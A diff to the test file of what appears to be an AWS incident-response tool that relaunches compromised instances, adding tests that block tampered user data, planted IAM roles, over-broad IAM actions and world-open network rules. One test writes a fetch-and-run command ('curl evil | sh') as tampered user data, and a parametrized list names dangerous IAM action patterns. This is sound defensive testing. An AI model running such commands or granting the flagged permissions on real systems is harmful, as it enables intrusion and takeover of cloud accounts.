@@ -12,7 +12,10 @@ from tests.cases import CASES, apply, effects, planned, with_template
 from tests.conftest import HOME, Aws, Labs
 from tests.world import clients, dump
 from vpce_tui.inventory import images
+from vpce_tui.inventory.dossiers.barriers import GroupRule
+from vpce_tui.inventory.dossiers.launch import PolicyOf
 from vpce_tui.inventory.images import Image, family_of, name_pattern, newest_first
+from vpce_tui.playbooks.actions.relaunch.access import too_much, too_wide
 
 NOW = datetime(2026, 11, 24, tzinfo=UTC)
 CASE = next(case for case in CASES if case.name == "relaunch-instance")
@@ -162,7 +165,7 @@ def test_the_new_machine_is_hardened(aws: Aws) -> None:
         "SecurityGroups"
     ]
     assert [rule["IpProtocol"] for rule in group["IpPermissionsEgress"]] == ["tcp"]
-    assert {rule["FromPort"] for rule in group["IpPermissions"]} == {22, 443}
+    assert {rule["FromPort"] for rule in group["IpPermissions"]} == {443}, "SSH is ticked by a person or not at all"
 
 
 def test_it_takes_the_old_ones_place(aws: Aws) -> None:
@@ -286,7 +289,8 @@ def test_a_group_with_a_launch_template_gets_a_new_version_of_it_and_undo_takes_
     ]
     data = next(item["LaunchTemplateData"] for item in versions if item["VersionNumber"] == 3)
     assert data["ImageId"] == aws.facts["image_newer"]
-    assert data["EbsOptimized"] is True, "what it does not name stays as it was"
+    assert "EbsOptimized" not in data
+    assert "KeyName" not in data, "nothing of the version of before: an intruder may have written it"
     code, said = aws.run("undo", "--incident", "case", "--all", "--yes", "--wait", "3")
     assert code == 0, said
     assert dump(aws) == before
@@ -392,3 +396,47 @@ def test_of_a_terminated_machine_aws_has_forgotten_the_place_and_the_step_says_w
     assert [item.remedy for item in made.blocked] == [
         "name the subnet of the new machine: --set launch.subnet=subnet-…"
     ]
+
+
+def test_a_role_of_that_name_that_somebody_made_before_is_a_trap_and_blocks(aws: Aws) -> None:
+    iam, name = clients(aws)("iam"), f"vpce-tui-relaunch-{aws.victim}"
+    trust = json.dumps(
+        {"Statement": [{"Effect": "Allow", "Principal": {"AWS": "666666666666"}, "Action": "sts:AssumeRole"}]}
+    )
+    tags = [{"Key": "vpce-tui:call", "Value": "role"}, {"Key": "vpce-tui:target", "Value": aws.victim}]
+    iam.create_role(RoleName=name, AssumeRolePolicyDocument=trust, Tags=tags)
+    made = step(planned(aws, CASE), "profile")
+    assert f"the role {name} already" in made["blocked"][0]["says"]
+    assert made["calls"] == []
+
+
+def test_user_data_that_was_replaced_after_the_review_is_not_sent(aws: Aws) -> None:
+    planned(aws, CASE)
+    code, said = apply(aws, CASE, "--step", "image", "--step", "user-data", "--step", "group", "--step", "profile")
+    assert code == 0, said
+    ec2 = clients(aws)("ec2")
+    ec2.stop_instances(InstanceIds=[aws.victim])
+    ec2.modify_instance_attribute(InstanceId=aws.victim, UserData={"Value": b"curl evil | sh"})
+    code, said = apply(aws, CASE, "--step", "launch")
+    assert code != 0, said
+    assert "ec2:RunInstances" in said
+    assert "ec2:RunInstances" not in effects(aws)
+
+
+@pytest.mark.parametrize(
+    "action",
+    ["*:*", "**", "iam:C*", "iam:?reateUser", "sts:A*", "ec2:R*", "ec2:*", "lambda:C*", "cloudtrail:S*", "ssm:*"],
+)
+def test_no_way_to_write_a_dangerous_action_gets_past(action: str) -> None:
+    statement = {"Statement": [{"Effect": "Allow", "Action": action, "Resource": "*"}]}
+    assert too_much(PolicyOf("x", "", statement))
+
+
+@pytest.mark.parametrize("action", ["s3:*", "ec2:Describe*", "logs:PutLogEvents", "iam:Get*", "kms:Decrypt"])
+def test_what_a_machine_needs_may_be_ticked(action: str) -> None:
+    assert not too_much(PolicyOf("x", "", {"Statement": [{"Effect": "Allow", "Action": action, "Resource": "*"}]}))
+
+
+@pytest.mark.parametrize("peer", ["0.0.0.0/0", "::/0", "0.0.0.0/1", "128.0.0.0/1", "::/1", "2000::/3"])
+def test_half_of_the_world_is_the_world(peer: str) -> None:
+    assert too_wide(GroupRule("sgr-1", "sg-1", False, "tcp", 22, 22, peer))
